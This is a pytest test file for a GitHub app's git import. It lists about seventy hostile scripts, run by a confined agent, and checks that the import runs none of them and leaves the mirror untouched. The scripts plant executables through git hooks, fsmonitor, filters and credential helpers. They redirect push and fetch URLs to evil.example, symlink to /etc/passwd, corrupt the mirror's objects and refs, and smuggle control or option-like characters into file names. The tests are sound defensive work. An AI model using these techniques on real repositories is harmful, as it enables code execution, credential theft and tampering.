"""The attack list: whatever confined code does, our git runs none of it, and the mirror stays what it was."""

import hashlib
from dataclasses import replace

import pytest
from git_workbench import Bench, a_place, git, quick_confiner

from github_app.core.names import Instant
from github_app.errors import GitError, HostileTreeError, SandboxError
from github_app.git.export import TransportLimits
from github_app.git.importer import seal
from github_app.git.mirror import Mirror
from github_app.git.remote import Remote

WHO = {"author_name": "remit[bot]", "author_email": "remit@example.org", "date": Instant(1_795_000_000_000)}

# script for the agent -> what is imported (status and path), or the words of the refusal. $C is a file that no code of
# ours may make: the planted programs write it, and only when they run as us does that succeed.
PLANT = 'printf "#!/bin/sh\\ntouch $C\\n" > ../scratch/evil; chmod +x ../scratch/evil; E=$(cd ../scratch && pwd)/evil;'
ATTACKS = {
    "fsmonitor": (PLANT + "git config core.fsmonitor $E; echo x > a", ["A a"]),
    "every hook": (
        PLANT + "mkdir -p ../git/hooks; for h in pre-commit post-commit post-checkout reference-transaction pre-push"
        " post-index-change commit-msg prepare-commit-msg pre-auto-gc; do cp $E ../git/hooks/$h; done; echo x > a",
        ["A a"],
    ),
    "hooks path": (
        PLANT + "mkdir h; cp $E h/pre-push; git config core.hooksPath h; echo x > a",
        ["A a", "A h/pre-push"],
    ),
    "clean filter": (
        PLANT + "git config filter.x.clean $E; git config filter.x.required true; mkdir -p ../git/info;"
        " echo '* filter=x' > ../git/info/attributes; echo x > a",
        ["A a"],
    ),
    "filter by attributes": (PLANT + "git config filter.x.clean $E; echo '* filter=x' > .gitattributes", "tells git"),
    "diff driver": (PLANT + "git config diff.external $E; git config core.pager $E; echo x > a", ["A a"]),
    "own git dir": (PLANT + "rm .git; git init -q .; git config core.fsmonitor $E; echo x > a", ["A a"]),
    "git file elsewhere": ("git init -q ../scratch/g; echo gitdir: $PWD/../scratch/g/.git > .git; echo x > a", ["A a"]),
    "git file is the mirror": ("echo gitdir: $M > .git; git commit -qm x --allow-empty; echo x > a", ["A a"]),
    "git file gone": ("rm .git; echo x > a", ["A a"]),
    "git is a link": ("rm .git; ln -s $M .git; echo x > a", ["A a"]),
    "commondir": ("echo $M > ../git/commondir; echo x > a", ["A a"]),
    "insteadOf": ("git config url.https://evil.example/.insteadOf file:///; echo x > a", ["A a"]),
    "push url and helper": (
        PLANT + "git config remote.origin.pushurl https://evil.example/x; git config credential.helper $E;"
        " git config core.sshCommand $E; git config core.askPass $E; echo x > a",
        ["A a"],
    ),
    "lfs config": ("printf '[lfs]\\nurl=https://evil.example\\n' > .lfsconfig", "tells git"),
    "submodule config": ("printf '[submodule \"a\"]\\npath=a\\nurl=x\\n' > .gitmodules", "tells git"),
    "settings in another case": ("mkdir d; echo '* -text' > d/.GitAttributes", "tells git"),
    "replaced base": (
        "echo x > .github-ci; git add .; git commit -qm x; git replace $B HEAD; git reset -q --hard HEAD",
        ["A .github-ci"],
    ),
    "grafts and shallow": (
        "echo $B > ../git/shallow; mkdir -p ../git/info; echo $B > ../git/info/grafts; echo x > a",
        ["A a"],
    ),
    "foreign alternates": (
        "cd ../git/objects/info; echo /root >> alternates; echo ../git/objects >> alternates; cd $T; echo x > a",
        ["A a"],
    ),
    "objects of the mirror": (
        "rm -rf $M/objects/*; echo x > $M/objects/x; for f in $M/objects/??/*; do echo > $f; done; echo x > a",
        ["A a"],
    ),
    "references of the mirror": (
        "echo $B > $M/refs/heads/evil; git --git-dir=$M branch evil2; rm -rf $M/worktrees; echo x > a",
        ["A a"],
    ),
    "objects gone": ("rm -rf ../git/objects; echo x > a", ["A a"]),
    "facade gone": ("rm -rf ../git/* ../git/.* 2>/dev/null; echo x > a", ["A a"]),
    "gitlink": ("git update-index --add --cacheinfo 160000,$B,sub; git commit -qm x; mkdir sub", "submodule"),
    "nested repository": (
        "git init -q n; cd n; git -c user.name=x -c user.email=x commit -qm x --allow-empty",
        "submodule",
    ),
    "nested repository without commits": ("git init -q n; echo x > n/a", "committing what is in the worktree failed"),
    "link to the outside": ("ln -s /etc/passwd p", "leaves the tree"),
    "link up": ("mkdir -p d/e; ln -s ../../../x d/e/p", "leaves the tree"),
    "link down and up": ("ln -s src/../../x p", "leaves the tree"),
    "link into git": ("ln -s .git/config p", "leaves the tree"),
    "link inside": ("ln -s ../docs/guide.md src/p", ["A src/p"]),
    "folder becomes a link": ("rm -r docs; ln -s /etc docs", "leaves the tree"),
    "line feed in a path": ("touch 'a\nb'", "invisible or control"),
    "escape in a path": ("touch \"$(printf 'a\\033[2Jb')\"", "invisible or control"),
    "bidi in a path": ("touch \"$(printf 'a\\342\\200\\256txt.exe')\"", "invisible or control"),
    "zero width in a path": ("d=$(printf '.g\\342\\200\\213it'); mkdir $d; touch $d/x", "invisible or control"),
    "not UTF-8": ("touch \"$(printf 'a\\377')\"", "not UTF-8"),
    "other case": ("echo x > readme.md", "same to some file systems"),
    "folder in other case": ("mkdir Docs; echo x > Docs/b", "same to some file systems"),
    "other Unicode form": ("touch \"$(printf '\\303\\251')\" \"$(printf 'e\\314\\201')\"", "same to some file systems"),
    "short name": ("mkdir git~1; echo x > git~1/config", "something else|failed"),
    "backslash": ("touch 'a\\..\\..\\b'", "something else"),
    "stream": ("touch '.git::$INDEX_ALLOCATION'", "something else|failed"),
    "HEAD is garbage": ("head -c 300 /dev/urandom > ../git/HEAD; echo x > a", ["A a"]),
    "HEAD is an option": ("echo 'ref: --exec=x' > ../git/HEAD; echo x > a", ["A a"]),
    "HEAD is a blob": ("git hash-object -w README.md > ../git/HEAD; echo x > a", ["A a"]),
    "HEAD is a pipe": ("rm ../git/index; echo x > a; rm ../git/HEAD; mkdir ../git/HEAD", ["A a"]),
    "detached, orphaned, unborn": ("git checkout -q --orphan o; git rm -rqf --cached .; echo x > a", ["A a"]),
    "amended base": ("echo x > a; git add a; git commit -q --amend -m x", ["A a"]),
    "own commits by somebody else": (
        "echo x > a; git add a; GIT_AUTHOR_NAME=maintainer git commit -qm 'x\n\nCo-authored-by: admin <a@b.c>'",
        ["A a"],
    ),
    "workflow added then removed": (
        "mkdir .github; touch .github/x; git add .; git commit -qm x; git rm -qr .github; git commit -qm y; echo x > a",
        ["A a"],
    ),
    "workflow in another commit": (
        "mkdir -p .github/workflows; echo x > .github/workflows/x.yml; git add .; git commit -qm x; git checkout -q $B",
        [],
    ),
    "an ignored file committed on purpose": (
        "echo x > keep.log; git add -f keep.log; git commit -qm x",
        ["A keep.log"],
    ),
    "a file hidden from the index": (
        "echo x >> README.md; git update-index --assume-unchanged README.md",
        ["M README.md"],
    ),
    "index garbage": ("head -c 4000 /dev/urandom > ../git/index; echo x > a", ["A a"]),
    "index locked": ("touch ../git/index.lock; echo x > a", ["A a"]),
    "packed-refs garbage": ("head -c 4000 /dev/urandom > ../git/packed-refs; echo x > a", ["A a"]),
    "config garbage": ("echo '[[[' > ../git/config; echo x > a", ["A a"]),
    "pipe in the tree": ("mkfifo p; echo x > a", ["A a"]),
    "pipe instead of a file": ("rm README.md; mkfifo README.md", "committing what is in the worktree failed"),
    "no modes": ("mkdir d; echo x > d/x; chmod 000 d/x d", ["A d/x"]),
    "setuid": ("cp /bin/true t; chmod 6755 t", ["A t"]),
    "hard links": ("ln README.md b", ["A b"]),
    "deep": ("i=0; while [ $i -lt 100 ]; do mkdir d; cd d; i=$((i+1)); done; echo x > a", ["A " + "d/" * 100 + "a"]),
    "deeper than any path": (
        "python3 -c \"import os; [(os.mkdir('d' * 200), os.chdir('d' * 200)) for _ in range(30)]; open('a', 'w')\"",
        "committing what is in the worktree failed|nested deeper",
    ),
    "name that is an option": ("echo x > --upload-pack=x; echo x > -c", ["A --upload-pack=x", "A -c"]),
    "encoding that fails": (
        "printf 'a working-tree-encoding=UTF-16\\n' > .gitattributes; echo x > a",
        "failed|tells git",
    ),
}


@pytest.fixture(scope="module")
def bench(seed_upstream):
    with a_place() as place:
        mirror = Mirror.open(place / "mirrors", "1")
        base = mirror.fetch(Remote.at(seed_upstream), "main", None)
        yield Bench(place=place, mirror=mirror, base=base, confiner=quick_confiner(), limits=TransportLimits())


def fingerprint(mirror):
    """Every byte of the mirror that a run must leave alone."""
    return {
        str(path.relative_to(mirror.git_dir)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(mirror.git_dir.rglob("*"))
        if path.is_file() and "worktrees" not in path.parts and "heads" not in path.parts
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack(bench, attack):  # the same mirror for all of them: each starts from what the others left
    suffer(bench, *ATTACKS[attack])


WALLED = ("every hook", "own git dir", "commondir", "objects of the mirror", "no modes", "bidi in a path")


@pytest.mark.parametrize("attack", WALLED)
def test_attack_behind_the_wall(bench, wall, attack):
    suffer(replace(bench, confiner=wall), *ATTACKS[attack])


def suffer(bench, script, expected):
    canary = bench.place / "canary"
    before = fingerprint(bench.mirror)
    with bench.open() as run:
        setting = f"export C={canary} M={bench.mirror.git_dir} B={bench.base} T={run.tree}\n"
        bench.agent(run, setting + script)
        match expected:
            case str():
                with pytest.raises((HostileTreeError, GitError, SandboxError), match=expected):
                    bench.take(run)
            case _:
                imported = bench.take(run)
                assert [f"{c.status} {c.path}" for c in imported.changes] == expected
                assert {c.new_mode for c in imported.changes} <= {"100644", "100755", "120000", "000000"}
                assert fingerprint(bench.mirror) == before
                if expected:
                    sha = seal(imported, message="made by us", **WHO)
                    said = git(bench.mirror.git_dir, "log", "--format=%an|%ae|%cn|%P|%B", f"{bench.base}..{sha}")
                    assert said == f"remit[bot]|remit@example.org|remit[bot]|{bench.base}|made by us"
    assert not canary.exists()
    assert not run.path.exists()
    assert list((bench.work_dir / "trash").iterdir()) == []
    after = {name: digest for name, digest in fingerprint(bench.mirror).items() if not name.startswith("objects/pack/")}
    assert after == {name: digest for name, digest in before.items() if not name.startswith("objects/pack/")}
